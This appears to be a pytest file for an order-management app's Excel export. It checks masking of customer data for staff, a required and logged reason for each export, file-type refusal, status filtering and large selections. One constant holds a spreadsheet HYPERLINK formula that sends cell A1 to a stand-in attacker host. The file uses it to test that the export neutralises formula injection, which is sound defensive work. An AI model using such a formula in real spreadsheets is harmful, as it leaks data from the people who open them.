"""Export orders to Excel: masked for staff, clear for the owner, always with a reason."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from desktop_oms.domain.status import OrderStatus
from desktop_oms.services.access_log import access_log_rows
from desktop_oms.services.order_export import EXPORT_HEADER, ExportRefused, export_orders_xlsx
from desktop_oms.storage.uow import Database
from tests.conftest import NOW
from tests.integration.privacy_helpers import OWNER, STAFF, age, one_order

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'


def _sheet(path: Path) -> list[list[object]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()


def test_the_owner_exports_orders_with_the_columns_a_shop_expects_in_clear(
    db: Database, tmp_path: Path
) -> None:
    order_id = one_order(db, "A-1", qty=3)
    result = export_orders_xlsx(db, OWNER, tmp_path / "orders.xlsx", "세무사 제출")
    rows = _sheet(result.path)
    assert tuple(rows[0]) == EXPORT_HEADER
    number, channel, status, ordered, name, phone, postal, address, goods, qty, amount = rows[1]
    assert (name, phone, postal, address) == (
        "홍길동",
        "010-1234-5678",
        "06236",
        "서울특별시 강남구 테헤란로 152",
    )
    assert str(number).startswith("2026")
    assert (channel, status, ordered) == ("MANUAL", "상품준비중", "2026-11-26 10:00")
    assert (goods, qty, amount) == ("상품 A-1", 3, 30_000)
    assert (result.orders, result.rows) == (1, 1)
    [log] = access_log_rows(db, OWNER)
    assert (log.operator, log.action, log.order_ids) == ("사장", "EXPORT", (order_id,))
    assert log.reason == "세무사 제출 (orders.xlsx)"


def test_staff_export_masked_personal_data(db: Database, tmp_path: Path) -> None:
    one_order(db)
    export_orders_xlsx(db, STAFF, tmp_path / "orders.xlsx", "택배 접수")
    row = _sheet(tmp_path / "orders.xlsx")[1]
    assert row[4:8] == ["홍*동", "010-1234-****", "06236", "서울특별시 강남구 ***"]


@pytest.mark.parametrize("reason", ["", "   "])
def test_an_export_without_a_reason_is_refused_and_nothing_is_written(
    db: Database, tmp_path: Path, reason: str
) -> None:
    one_order(db)
    with pytest.raises(ExportRefused, match="사유를 입력하세요"):
        export_orders_xlsx(db, OWNER, tmp_path / "orders.xlsx", reason)
    assert not (tmp_path / "orders.xlsx").exists()
    assert access_log_rows(db, OWNER) == []


def test_a_file_name_that_is_not_xlsx_is_refused(db: Database, tmp_path: Path) -> None:
    one_order(db)
    with pytest.raises(ExportRefused, match=r"\.xlsx"):
        export_orders_xlsx(db, OWNER, tmp_path / "orders.csv", "백업")
    assert not (tmp_path / "orders.csv").exists()


def test_a_recipient_named_like_a_formula_reads_back_as_plain_text(
    db: Database, tmp_path: Path
) -> None:
    one_order(db, name=HYPERLINK)
    export_orders_xlsx(db, OWNER, tmp_path / "orders.xlsx", "검수")
    assert _sheet(tmp_path / "orders.xlsx")[1][4] == HYPERLINK
    cell = openpyxl.load_workbook(tmp_path / "orders.xlsx").active.cell(2, 5)
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_export_by_status_takes_only_that_status(db: Database, tmp_path: Path) -> None:
    paid = one_order(db, "A-1")
    cancelled = one_order(db, "B-1", name="김철수")
    age(db, cancelled, status=OrderStatus.CANCELLED.value, cancelled_at=NOW)
    result = export_orders_xlsx(db, OWNER, tmp_path / "o.xlsx", "정산", status=OrderStatus.PAID)
    assert result.orders == 1
    assert [r[4] for r in _sheet(tmp_path / "o.xlsx")[1:]] == ["홍길동"]
    assert access_log_rows(db, OWNER)[0].order_ids == (paid,)


def test_exporting_no_matching_order_is_refused(db: Database, tmp_path: Path) -> None:
    one_order(db)
    with pytest.raises(ExportRefused, match="no orders"):
        export_orders_xlsx(db, OWNER, tmp_path / "o.xlsx", "정산", status=OrderStatus.SHIPPED)
    assert not (tmp_path / "o.xlsx").exists()


def test_a_selection_larger_than_a_servers_parameter_limit_exports(
    db: Database, tmp_path: Path
) -> None:
    order_id = one_order(db)
    selection = [*range(10**6, 10**6 + 70_000), order_id]  # PostgreSQL takes 65,535 at most
    result = export_orders_xlsx(db, OWNER, tmp_path / "o.xlsx", "정산", order_ids=selection)
    assert result.orders == 1
    assert [r[4] for r in _sheet(tmp_path / "o.xlsx")[1:]] == ["홍길동"]
